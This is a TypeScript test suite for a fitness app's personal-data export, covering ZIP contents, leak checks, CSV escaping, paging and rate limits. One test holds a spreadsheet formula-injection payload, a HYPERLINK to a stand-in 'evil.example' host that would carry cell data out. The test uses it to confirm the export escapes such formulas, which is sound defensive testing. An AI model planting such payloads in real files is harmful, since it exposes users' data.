import { createExecutionContext, env, waitOnExecutionContext } from "cloudflare:test";
import { strFromU8, unzipSync } from "fflate";
import Papa from "papaparse";
import { afterEach, describe, expect, it, vi } from "vitest";
import { fixedClock } from "../../core/clock";
import type { ExportStatusJson } from "../../core/api/transfers";
import { eq } from "drizzle-orm";
import { app } from "../../worker/app";
import { getDb } from "../../worker/db/client";
import { diaryEntries, profiles, workoutSessions } from "../../worker/db/schema";
import { exportFiles } from "../../worker/account-data/files";
import { sessionIdFromToken } from "../../worker/shared/session/store";
import { fresh } from "./auth-helpers";
import { createSession, createUser } from "./factories";
import { memberWithEverything, type MemberWithEverything } from "./member-everything";

const now = Date.parse("2026-11-29T10:00:00Z");
const day = 24 * 60 * 60 * 1000;

/** A request through the app with the clock stopped at `at`. */
async function send(method: "GET" | "POST", opts: { token?: string; lang?: "en" | "ru"; at?: number } = {}) {
  const headers: Record<string, string> = { "CF-Connecting-IP": fresh().ip };
  if (opts.token) headers.Authorization = `Bearer ${opts.token}`;
  if (opts.lang) headers.Cookie = `lang=${opts.lang}`;
  const ctx = createExecutionContext();
  const res = await app.fetch(
    new Request("https://forma.test/api/account/export", { method, headers }),
    { ...env, clock: fixedClock(opts.at ?? now) },
    ctx,
  );
  await waitOnExecutionContext(ctx);
  return res;
}

const status = async (token: string, at = now) => (await (await send("GET", { token, at })).json()) as ExportStatusJson;

/** Downloads the export and answers its files by path. */
async function download(token: string, opts: { lang?: "en" | "ru"; at?: number } = {}) {
  const res = await send("POST", { token, ...opts });
  expect(res.status).toBe(200);
  return { res, files: unzipSync(new Uint8Array(await res.arrayBuffer())) };
}

const text = (files: Record<string, Uint8Array>, path: string) => {
  const file = files[path];
  if (!file) throw new Error(`the ZIP has no ${path}`);
  return strFromU8(file);
};
const json = (files: Record<string, Uint8Array>, path: string) => JSON.parse(text(files, path));
const csv = (files: Record<string, Uint8Array>, path: string) =>
  Papa.parse<Record<string, string>>(text(files, path), { header: true, skipEmptyLines: true });

/** The ZIP's paths for the list's entries, with the member's records in place of <id> and <ext>. */
const expectedPaths = (m: MemberWithEverything) =>
  exportFiles.map(({ path }) =>
    path
      .replace("support/screenshots/<id>.<ext>", `support/screenshots/${m.supportId}.jpg`)
      .replace("<id>-photo.<ext>", `${m.previewId}-photo.jpg`)
      .replace("<id>-preview.<ext>", `${m.previewId}-preview.png`),
  );

describe("Download my data: the ZIP", { timeout: 30_000 }, () => {
  afterEach(() => vi.restoreAllMocks());

  it("holds every listed file with the member's records, and is sent as a download not to be cached", async () => {
    const m = await memberWithEverything();
    const { res, files } = await download(m.token);
    expect(res.headers.get("Content-Type")).toBe("application/zip");
    expect(res.headers.get("Content-Disposition")).toBe('attachment; filename="forma-data-2026-11-29.zip"');
    expect(res.headers.get("Cache-Control")).toBe("no-store");
    expect(Object.keys(files).sort()).toEqual(expectedPaths(m).sort());

    expect(json(files, "account.json")).toEqual({
      id: m.id,
      email: m.email,
      firstName: "Anna",
      lastName: `Ivanova-${m.marker}`,
      language: "en",
      timeZone: "Europe/Moscow",
      units: "imperial",
      createdAt: "2026-10-21T09:00:00.000Z",
      emailVerified: true,
      emailVerifiedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
    });
    const profile = json(files, "profile.json");
    expect(profile.body).toEqual({ weightKg: 64.5, heightCm: 168, age: 31, gender: "FEMALE", activity: "MODERATE" });
    expect(profile).toMatchObject({
      goal: "LOSE_WEIGHT",
      targetWeightKg: 60,
      plan: "PRO",
      plansGenerated: { workout: 1, nutrition: 1 },
    });
    expect(profile.health).toEqual({
      lifeStage: "lactation",
      lifeStageDate: "2026-08-01",
      lifeStageAnsweredAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      screening: {
        answeredAt: "2026-11-01T08:00:00.000Z",
        answers: {
          heart: false,
          chestPain: false,
          dizziness: false,
          chronicCondition: false,
          medication: false,
          boneJoint: true,
          supervised: false,
        },
        doctorCleared: true,
      },
      eatingDisorderSignsAt: null,
    });
    const stored = await getDb(env.DB).select().from(profiles).where(eq(profiles.userId, m.id)).get();
    expect(json(files, "plans/workout-plan.json")).toEqual(JSON.parse(JSON.stringify(stored!.workoutPlan)));
    expect(json(files, "plans/nutrition-plan.json")).toEqual(JSON.parse(JSON.stringify(stored!.nutritionPlan)));
    expect(json(files, "plans/nutrition-plan.json")).toMatchObject({ tdee: expect.any(Number) });

    const measurements = csv(files, "progress/measurements.csv");
    expect(measurements.meta.fields).toEqual([
      "date",
      "weight_kg",
      "waist_cm",
      "neck_cm",
      "hips_cm",
      "chest_cm",
      "arm_cm",
      "thigh_cm",
      "body_fat_percent",
      "created_at",
      "updated_at",
    ]);
    expect(measurements.data.map((r) => [r.date, r.weight_kg, r.waist_cm, r.body_fat_percent])).toEqual([
      ["2026-11-18", "65.2", "74", ""],
      ["2026-11-19", "64.9", "", "24.5"],
    ]);
    expect(json(files, "progress/measurements.json")[1]).toMatchObject({
      date: "2026-11-19",
      weightKg: 64.9,
      bodyFatPercent: 24.5,
      neckCm: 32,
      createdAt: "2026-11-19T08:00:00.000Z",
    });

    // Kept sets only, numbered among the kept ones, with the exercise's English name (the member's own one's name).
    const sets = csv(files, "workouts/sets.csv");
    expect(sets.meta.fields).toEqual([
      "date",
      "workout",
      "started_at",
      "finished_at",
      "exercise",
      "exercise_name",
      "set",
      "kind",
      "weight_kg",
      "reps",
      "seconds",
      "rpe",
      "rir",
      "note",
      "workout_note",
      "superset",
    ]);
    expect(sets.data).toEqual([
      {
        date: "2026-11-20",
        workout: `Push day ${m.marker}`,
        started_at: "2026-11-20T09:00:00.000Z",
        finished_at: "2026-11-20T10:00:00.000Z",
        exercise: "barbell-bench-press",
        exercise_name: "Barbell bench press",
        set: "1",
        kind: "warmup",
        weight_kg: "20",
        reps: "12",
        seconds: "",
        rpe: "",
        rir: "",
        note: `Felt strong ${m.marker}`,
        workout_note: `New gym, busy at six ${m.marker}`,
        superset: "",
      },
      expect.objectContaining({
        exercise: "barbell-bench-press",
        set: "2",
        kind: "work",
        weight_kg: "52.5",
        reps: "8",
        rpe: "8.5",
        rir: "2",
      }),
      expect.objectContaining({
        exercise: `own-${m.ownExerciseId}`,
        exercise_name: `Sled push ${m.marker}`,
        set: "1",
        kind: "work",
        weight_kg: "80",
        reps: "10",
      }),
      expect.objectContaining({ exercise: `own-${m.ownExerciseId}`, set: "2", kind: "drop", weight_kg: "60", reps: "8" }),
    ]);
    const workouts = json(files, "workouts/workouts.json");
    expect(workouts.map((w: { id: string }) => w.id)).toEqual([m.workout.sessionId]);
    expect(workouts[0]).toMatchObject({
      date: "2026-11-20",
      note: `New gym, busy at six ${m.marker}`,
      status: "finished",
      startedAt: "2026-11-20T09:00:00.000Z",
      finishedAt: "2026-11-20T10:00:00.000Z",
    });
    expect(workouts[0].exercises.map((e: { exercise: string; sets: unknown[]; superset: string | null }) => [e.exercise, e.sets.length, e.superset])).toEqual([
      ["barbell-bench-press", 2, null],
      [`own-${m.ownExerciseId}`, 2, null],
    ]);
    expect(workouts[0].exercises[1].sets.map((s: { kind: string }) => s.kind)).toEqual(["work", "drop"]);
    expect(workouts[0].exercises[0].sets[1]).toMatchObject({
      kind: "work",
      weightKg: 52.5,
      reps: 8,
      rpe: 8.5,
      rir: 2,
      loggedAt: "2026-11-20T09:10:00.000Z",
    });

    expect(json(files, "exercises/own-exercises.json")).toEqual([
      {
        id: `own-${m.ownExerciseId}`,
        name: `Sled push ${m.marker}`,
        measure: "reps",
        createdAt: "2026-11-20T09:03:00.000Z",
        updatedAt: "2026-11-20T09:03:00.000Z",
        deleted: false,
      },
    ]);
    expect(json(files, "exercises/import-names.json")).toEqual([
      { name: `sled push ${m.marker}`, exercise: `own-${m.ownExerciseId}`, updatedAt: "2026-11-20T09:03:00.000Z" },
    ]);

    const entries = csv(files, "diary/entries.csv");
    expect(
      entries.data.map((e) => [
        e.meal,
        e.name_en,
        e.grams,
        e.kcal_per_100g,
        e.protein_g_per_100g,
        e.calcium_mg_per_100g,
        e.copper_ug_per_100g,
      ]),
    ).toEqual([
      ["breakfast", "Milk, whole, 3.25% milkfat", "250", "61", "3.15", "113", ""],
      ["snack", `Protein bar ${m.marker}`, "50", "380", "30", "", ""],
    ]);
    expect(entries.data[0]).toMatchObject({
      date: "2026-11-20",
      food_kind: "db",
      food_id: "01077",
      name_ru: "Молоко цельное 3,25 %",
      logged_at: "2026-11-20T09:07:00.000Z",
    });
    expect(entries.data[1]!.portion).toBe("1 × bar");
    expect(json(files, "diary/entries.json").map((e: { id: string }) => e.id)).toEqual([
      m.diary.milkEntryId,
      m.diary.foodEntryId,
    ]);
    expect(json(files, "diary/own-foods.json")).toEqual([
      expect.objectContaining({
        id: m.diary.foodId,
        name: `Protein bar ${m.marker}`,
        basis: "serving",
        serving: { label: "1 bar", grams: 50 },
        entered: { kcal: 190, protein: 15, fat: 6, carbs: 17.5 },
        per100g: { kcal: 380, protein: 30, fat: 12, carbs: 35 },
      }),
    ]);
    expect(json(files, "diary/recipes.json")).toEqual([
      expect.objectContaining({ id: m.diary.recipeId, name: `Porridge ${m.marker}`, finishedGrams: 200, servings: 1 }),
    ]);
    expect(json(files, "diary/favourites.json")).toEqual([
      { food: { kind: "custom", id: m.diary.foodId }, updatedAt: "2026-11-20T09:05:00.000Z" },
    ]);

    expect(json(files, "diary/day-targets.json")).toEqual([
      {
        date: "2026-11-20",
        source: "calculator",
        kcal: 2100,
        proteinG: 140,
        fatG: 70,
        carbsG: 230,
        deficitWithheld: null,
        extraEnergyKcal: 0,
        updatedAt: "2026-11-20T09:20:00.000Z",
      },
    ]);
    expect(json(files, "nutrition/adjustments.json")).toEqual([
      expect.objectContaining({
        week: "2026-11-16",
        fromKcal: 2000,
        toKcal: 1900,
        trendKgPerWeek: -0.1,
        expectedKgPerWeek: -0.4,
        reason: "adjusted",
        status: "applied",
      }),
    ]);
    expect(json(files, "education/lessons.json")).toEqual([
      { lesson: "energy-balance", title: expect.any(String), completedAt: "2026-11-18T23:40:00.000Z" },
    ]);

    const chat = json(files, "chat/history.json");
    expect(chat).toEqual([
      { role: "user", content: `How much protein do I need? ${m.marker}`, at: "2026-11-20T09:11:00.000Z" },
      { role: "assistant", content: "About 1.6 g per kg of body weight a day.", at: "2026-11-20T09:12:00.000Z" },
    ]);
    const history = text(files, "chat/history.md");
    expect(history).toContain(`## You · 2026-11-20T09:11:00.000Z\n\nHow much protein do I need? ${m.marker}\n`);
    expect(history).toContain("## Coach · 2026-11-20T09:12:00.000Z\n\nAbout 1.6 g per kg of body weight a day.\n");

    expect(json(files, "support/requests.json")).toEqual([
      {
        id: m.supportId,
        topic: "billing",
        message: `I was charged twice ${m.marker}`,
        status: "open",
        language: "en",
        plan: "PRO",
        createdAt: "2026-11-20T09:13:00.000Z",
        screenshot: `support/screenshots/${m.supportId}.jpg`,
      },
    ]);
    expect(text(files, `support/screenshots/${m.supportId}.jpg`)).toContain(`screenshot ${m.marker}`);

    expect(json(files, "billing/subscription.json")).toEqual({
      plan: "PRO",
      interval: "month",
      status: "active",
      currentPeriodEnd: "2026-12-20T09:00:00.000Z",
      provider: "sandbox",
      last4: "4242",
      createdAt: "2026-11-20T07:20:00.000Z",
    });
    const ykReceipt = {
      email: `${m.marker}@example.com`,
      items: [{ amount: "799.00", description: "Подписка Forma Pro на 1 месяц", vatCode: 1 }],
    };
    expect(json(files, "billing/payments.json")).toEqual([
      { plan: "PRO", interval: "month", amount: 12.99, currency: "USD", status: "complete", date: "2026-11-20T07:19:00.000Z" },
      {
        provider: "yookassa",
        id: `ykp_${m.marker}`,
        kind: "first",
        plan: "PRO",
        interval: "month",
        amount: 799,
        currency: "RUB",
        status: "succeeded",
        method: { kind: "card", last4: "4477", brand: "MasterCard" },
        receipt: ykReceipt,
        refunded: 799,
        failure: null,
        date: "2026-11-20T04:00:00.000Z",
        paidAt: "2026-11-20T04:01:00.000Z",
      },
      {
        provider: "yookassa",
        id: `ykr_${m.marker}`,
        kind: "refund",
        payment: `ykp_${m.marker}`,
        amount: 799,
        currency: "RUB",
        status: "succeeded",
        reason: "member",
        receipt: ykReceipt,
        date: "2026-11-20T04:50:00.000Z",
      },
    ]);

    expect(json(files, "time-machine/previews.json")).toEqual([
      expect.objectContaining({
        id: m.previewId,
        type: "cut",
        months: 3,
        status: "done",
        photo: `time-machine/${m.previewId}-photo.jpg`,
        preview: `time-machine/${m.previewId}-preview.png`,
        createdAt: "2026-11-20T09:14:00.000Z",
      }),
    ]);
    expect(text(files, `time-machine/${m.previewId}-photo.jpg`)).toContain(`photo ${m.marker}`);
    expect(text(files, `time-machine/${m.previewId}-preview.png`)).toContain(`preview ${m.marker}`);

    expect(json(files, "workouts/settings.json")).toEqual({
      effort: "rpe",
      plates: { metric: { bar: 20, plates: [20, 10, 5] }, imperial: { bar: 35, plates: [45, 25, 10] } },
      rest: { "barbell-bench-press": 180 },
      updatedAt: "2026-11-20T09:15:00.000Z",
    });

    expect(json(files, "workouts/routines.json")).toEqual([
      {
        id: `routine-${m.marker}`,
        name: `Push ${m.marker}`,
        exercises: [
          { exercise: "barbell-bench-press", name: "Barbell bench press", superset: null },
          { exercise: `own-${m.ownExerciseId}`, name: `Sled push ${m.marker}`, superset: "A" },
          { exercise: "push-up", name: "Push-up", superset: "A" },
        ],
        createdAt: "2026-11-20T09:16:00.000Z",
        updatedAt: "2026-11-20T09:17:00.000Z",
      },
    ]);

    expect(json(files, "reminders.json")).toEqual({
      settings: {
        timeZone: "Europe/Moscow",
        time: "09:00",
        quietHours: { from: "22:00", to: "07:00" },
        training: false,
        weighInDays: ["MONDAY"],
        checkIn: false,
        checkInDay: "MONDAY",
        emailFallback: false,
        updatedAt: "2026-11-20T09:16:00.000Z",
      },
      devices: [{ pushService: "push.example", since: "2026-11-20T09:16:00.000Z", lastDelivered: null }],
      sent: [{ kind: "weigh_in", date: "2026-11-20", channel: "push", at: "2026-11-20T09:17:00.000Z" }],
    });

    expect(json(files, "security/ways-in.json")).toEqual({
      password: true,
      passkeys: [{ name: `Pixel ${m.marker}`, synced: true, addedAt: "2026-11-20T09:18:00.000Z", lastUsedAt: "2026-11-20T09:19:00.000Z" }],
      connectedAccounts: [{ provider: "google", email: `anna.${m.marker}@gmail.com`, linkedAt: "2026-11-20T09:18:00.000Z", lastUsedAt: null }],
      twoStep: { enabled: true, enabledAt: "2026-11-20T09:20:00.000Z", recoveryCodesLeft: 1 },
    });
    expect(json(files, "security/sign-ins.json")).toEqual([
      { at: "2026-11-20T09:22:00.000Z", method: "passkey", secondStep: null, device: "Chrome on Android", country: "RU" },
    ]);

    // The seeded import and this export.
    expect(json(files, "transfers.json")).toEqual([
      { kind: "import", source: "strong", rows: 12, at: "2026-11-20T05:40:00.000Z", undoneAt: null },
      { kind: "export", source: null, rows: null, at: "2026-11-29T10:00:00.000Z", undoneAt: null },
    ]);
  });

  it("holds nothing of another member and none of the member's secrets", async () => {
    const m = await memberWithEverything();
    const other = await memberWithEverything();
    const { files } = await download(m.token);
    const sessionId = sessionIdFromToken(m.token);
    // Every file, pictures too, read as text: an id, an address or a marker would show in either.
    for (const [path, bytes] of Object.entries(files)) {
      const content = strFromU8(bytes, true);
      for (const leak of [
        other.id,
        other.email,
        other.marker,
        m.secrets.passwordHash,
        m.secrets.customerId,
        m.secrets.subscriptionId,
        m.secrets.paymentMethodId,
        m.secrets.pushEndpoint,
        m.secrets.signingKey,
        m.secrets.passkeyId,
        m.secrets.passkeyPublicKey,
        m.secrets.totpSecret,
        m.secrets.recoveryCodeHash,
        m.secrets.providerSubject,
        `sess${m.marker}`,
        m.token,
        sessionId,
      ]) {
        expect(content.includes(leak), `${path} holds ${leak}`).toBe(false);
      }
    }
    // The member's own records are there: the search looks at real content.
    expect(Object.values(files).some((bytes) => strFromU8(bytes, true).includes(m.marker))).toBe(true);
  });

  it("writes a text that a spreadsheet would run as a formula as plain text, and numbers as numbers", async () => {
    const m = await memberWithEverything();
    const db = getDb(env.DB);
    const formula = '=HYPERLINK("https://evil.example/?"&B2,"open")';
    await db.update(workoutSessions).set({ name: formula, note: "-2+3" }).where(eq(workoutSessions.id, m.workout.sessionId));
    await db.update(diaryEntries).set({ nameEn: "@SUM(1,2)" }).where(eq(diaryEntries.id, m.diary.foodEntryId));
    const { files } = await download(m.token);
    const sets = csv(files, "workouts/sets.csv").data.filter((row) => row.date === "2026-11-20");
    expect(sets.length).toBeGreaterThan(0);
    for (const row of sets) {
      expect(row.workout).toBe(`'${formula}`);
      expect(row.workout_note).toBe("'-2+3");
    }
    expect(sets.map((row) => row.weight_kg)).toContain("52.5");
    const snack = csv(files, "diary/entries.csv").data.find((row) => row.meal === "snack");
    expect(snack).toMatchObject({ name_en: "'@SUM(1,2)", grams: "50" });
  });

  it("gives an empty feature its file all the same: a CSV with its header, an empty list, null", async () => {
    const { id } = await createUser({ screening: null });
    const { files } = await download(await createSession(id));
    const pictures = exportFiles.filter((f) => f.path.includes("<id>")).length;
    expect(Object.keys(files)).toHaveLength(exportFiles.length - pictures);
    expect(text(files, "workouts/sets.csv")).toBe(
      "date,workout,started_at,finished_at,exercise,exercise_name,set,kind,weight_kg,reps,seconds,rpe,rir,note,workout_note,superset\r\n",
    );
    expect(text(files, "progress/measurements.csv").split("\r\n")).toEqual([expect.stringMatching(/^date,weight_kg,/), ""]);
    expect(text(files, "diary/entries.csv").split("\r\n")).toEqual([expect.stringMatching(/^date,meal,food_kind,/), ""]);
    for (const path of [
      "workouts/workouts.json",
      "diary/entries.json",
      "chat/history.json",
      "support/requests.json",
      "time-machine/previews.json",
      "billing/payments.json",
      "exercises/own-exercises.json",
      "workouts/routines.json",
      "security/sign-ins.json",
    ]) {
      expect(json(files, path), path).toEqual([]);
    }
    expect(json(files, "plans/workout-plan.json")).toBeNull();
    expect(json(files, "workouts/settings.json")).toBeNull();
    expect(json(files, "billing/subscription.json")).toBeNull();
    expect(json(files, "profile.json").health.screening).toBeNull();
    expect(json(files, "security/ways-in.json")).toEqual({
      password: false,
      passkeys: [],
      connectedAccounts: [],
      twoStep: { enabled: false, enabledAt: null, recoveryCodesLeft: 0 },
    });
  });

  it("reads every row once and in order across pages: 30 workouts of 21 sets, 501 body entries", async () => {
    const { id } = await createUser();
    const series = (count: number) => `WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < ${count - 1})`;
    await env.DB.batch([
      env.DB.prepare(
        `${series(30)} INSERT INTO workout_sessions (id, user_id, date, name, source, plan, status, started_at, updated_at)
         SELECT printf('s%02d-', i) || ?1, ?1, date('2026-01-01', '+' || i || ' days'), 'W' || i, 'free', '[]', 'finished', ?2 + i * 86400000, ?2 FROM n`,
      ).bind(id, Date.parse("2026-01-01T08:00:00Z")),
      env.DB.prepare(
        `${series(90)} INSERT INTO workout_entries (id, session_id, user_id, exercise, position, updated_at)
         SELECT printf('e%03d-', i) || ?1, printf('s%02d-', i / 3) || ?1, ?1, 'barbell-bench-press', 2 - i % 3, 0 FROM n`,
      ).bind(id),
      env.DB.prepare(
        `${series(630)} INSERT INTO workout_sets (id, session_id, entry_id, user_id, exercise, position, kind, weight, reps, updated_at, logged_at)
         SELECT printf('t%03d-', 629 - i) || ?1, printf('s%02d-', i / 21) || ?1, printf('e%03d-', i / 7) || ?1, ?1, 'barbell-bench-press', i % 7, 'work', i, 5, 0, 0 FROM n`,
      ).bind(id),
      env.DB.prepare(
        `${series(501)} INSERT INTO body_entries (id, user_id, date, weight) SELECT 'b' || i || ?1, ?1, date('2024-01-01', '+' || i || ' days'), 50 + i / 10.0 FROM n`,
      ).bind(id),
    ]);
    const { files } = await download(await createSession(id));
    const sets = csv(files, "workouts/sets.csv").data;
    // By workout, then by the entries' places (entry e0 of each workout is done last), then the sets' places.
    const expected = Array.from({ length: 30 }, (_, w) =>
      [2, 1, 0].flatMap((e) => Array.from({ length: 7 }, (_, k) => [`W${w}`, String((w * 3 + e) * 7 + k), String(k + 1)])),
    ).flat();
    expect(sets.map((r) => [r.workout, r.weight_kg, r.set])).toEqual(expected);
    const workouts = json(files, "workouts/workouts.json");
    expect(workouts.map((w: { name: string }) => w.name)).toEqual(Array.from({ length: 30 }, (_, w) => `W${w}`));
    expect(workouts.flatMap((w: { exercises: { sets: unknown[] }[] }) => w.exercises.flatMap((e) => e.sets))).toHaveLength(630);
    const body = csv(files, "progress/measurements.csv").data;
    expect(body).toHaveLength(501);
    expect([body[0]!.date, body[499]!.date, body[500]!.date]).toEqual(["2024-01-01", "2025-05-14", "2025-05-15"]);
  });

  it("writes the README in the member's language, naming every file", async () => {
    const { id } = await createUser();
    const token = await createSession(id);
    const ru = text((await download(token, { lang: "ru" })).files, "README.txt");
    expect(ru).toContain("Всё, что Forma хранит о вас, по состоянию на 2026-11-29 (UTC).");
    for (const f of exportFiles) {
      expect(ru).toContain(`${f.path}\r\n    ${f.what.ru}`);
    }
    const en = text((await download(token, { lang: "en" })).files, "README.txt");
    expect(en).toContain("Everything Forma keeps about you, downloaded on 2026-11-29 (UTC).");
    expect(en).toContain(`workouts/sets.csv\r\n    ${exportFiles.find((f) => f.path === "workouts/sets.csv")!.what.en}`);
    expect(text((await download(token, { lang: "ru" })).files, "chat/history.md")).toBe("# ИИ-тренер\n");
  });

  it("logs each export with the member's id only", async () => {
    const m = await memberWithEverything();
    const log = vi.spyOn(console, "log").mockImplementation(() => undefined);
    await download(m.token);
    const lines = log.mock.calls.map((args) => String(args[0])).filter((l) => l.includes("data_export"));
    expect(lines.map((l) => JSON.parse(l))).toEqual([{ level: "info", event: "data_export", userId: m.id }]);
    expect(lines.join("")).not.toContain(m.email);
  });
});

describe("Download my data: the limit", { timeout: 30_000 }, () => {
  it("allows 3 exports a day; the 4th is refused with when to try again", async () => {
    const { id } = await createUser();
    const token = await createSession(id);
    expect(await status(token)).toEqual({ limit: 3, left: 3, resetsAt: null, lastAt: null });
    await download(token);
    expect(await status(token, now + 1000)).toEqual({ limit: 3, left: 2, resetsAt: null, lastAt: now });
    await download(token, { at: now + 60_000 });
    await download(token, { at: now + 120_000 });
    expect(await status(token, now + 180_000)).toEqual({ limit: 3, left: 0, resetsAt: now + day, lastAt: now + 120_000 });

    const refused = await send("POST", { token, at: now + 180_000 });
    expect(refused.status).toBe(429);
    expect(refused.headers.get("Retry-After")).toBe(String(day / 1000 - 180));
    const body = (await refused.json()) as { error: { code: string; message: string } };
    expect(body.error.code).toBe("export_limit");
    expect(body.error.message).toBe("You can download your data 3 times a day. Try again after November 30 at 10:00 UTC.");
    const ru = (await (await send("POST", { token, at: now + 180_000, lang: "ru" })).json()) as { error: { message: string } };
    expect(ru.error.message).toBe(
      "Скачать данные можно не больше трёх раз в сутки. Попробуйте снова после 30 ноября в 10:00 UTC.",
    );

    // The next day's window opens.
    expect((await status(token, now + day)).left).toBe(3);
    await download(token, { at: now + day });
  });

  it("lets exactly 3 of 5 exports sent at once through", async () => {
    const { id } = await createUser();
    const token = await createSession(id);
    const answers = await Promise.all(Array.from({ length: 5 }, () => send("POST", { token })));
    expect(answers.map((r) => r.status).sort()).toEqual([200, 200, 200, 429, 429]);
    for (const res of answers.filter((r) => r.status === 200)) {
      expect(Object.keys(unzipSync(new Uint8Array(await res.arrayBuffer())))).toContain("account.json");
    }
    const rows = await env.DB.prepare("SELECT COUNT(*) AS n FROM data_transfers WHERE user_id = ? AND kind = 'export'")
      .bind(id)
      .first<{ n: number }>();
    expect(rows!.n).toBe(3);
  });

  it("hands the count back when the ZIP breaks off while it is written", async () => {
    const { id } = await createUser();
    const token = await createSession(id);
    // A diary entry whose values cannot be read makes the ZIP fail at diary/entries.csv.
    await env.DB.prepare(
      "INSERT INTO diary_entries (id, user_id, date, meal, food_kind, food_id, grams, per100g, logged_at, updated_at) VALUES (?, ?, '2026-11-20', 'lunch', 'db', '01077', 100, '{broken', 0, 0)",
    )
      .bind(crypto.randomUUID(), id)
      .run();
    vi.spyOn(console, "error").mockImplementation(() => undefined);
    const res = await send("POST", { token });
    expect(res.status).toBe(200);
    await expect(res.arrayBuffer()).rejects.toThrow();
    expect((await status(token)).left).toBe(3);
    vi.restoreAllMocks();
  });

  it("answers 401 to a visitor", async () => {
    for (const method of ["GET", "POST"] as const) {
      const res = await send(method);
      expect(res.status).toBe(401);
      expect(((await res.json()) as { error: { code: string } }).error.code).toBe("unauthorized");
    }
  });
});
